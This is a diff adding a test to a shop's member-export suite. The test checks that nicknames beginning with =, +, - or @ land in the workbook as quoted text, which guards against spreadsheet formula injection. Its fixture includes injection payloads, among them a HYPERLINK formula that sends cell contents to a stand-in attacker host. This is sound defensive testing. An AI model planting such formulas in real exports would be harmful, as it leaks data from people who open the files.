@@ -109,6 +109,23 @@ def test_export_job_writes_the_filtered_members(app, client, factory, shop, cloc
     assert client.get(f"{base}/exports/{export_id + 1}").status_code == 404
 
 
+def test_export_never_writes_a_live_formula(app, client, factory, shop, clock, redis_conn):
+    """A nickname starting with = + - @ stays text in the workbook (OWASP CSV injection)."""
+    nicknames = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd", "-2+3", "@SUM(1)"]
+    for n, nickname in enumerate(nicknames):
+        factory.member(shop, nickname=nickname, phone=f"1380000002{n}")
+    _user, csrf = console(client, factory, shop)
+    base = f"/console/shops/{shop.slug}/members"
+    export_id = client.post(f"{base}/export", headers={**csrf, **JSON}).json["id"]
+    job = Job.fetch(f"members-export-{shop.id}-{export_id}", connection=redis_conn)
+    with app.app_context():
+        job.func(*job.args)
+    sheet = load_workbook(io.BytesIO(client.get(f"{base}/exports/{export_id}").data)).active
+    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
+    assert all(cell.data_type == "s" for cell in cells)
+    assert sorted(cell.value for cell in cells) == sorted("'" + n for n in nicknames)
+
+
 def test_levels_and_tags_screens(app, client, factory, shop, clock):
     _user, csrf = console(client, factory, shop)
     base = f"/console/shops/{shop.slug}/members"
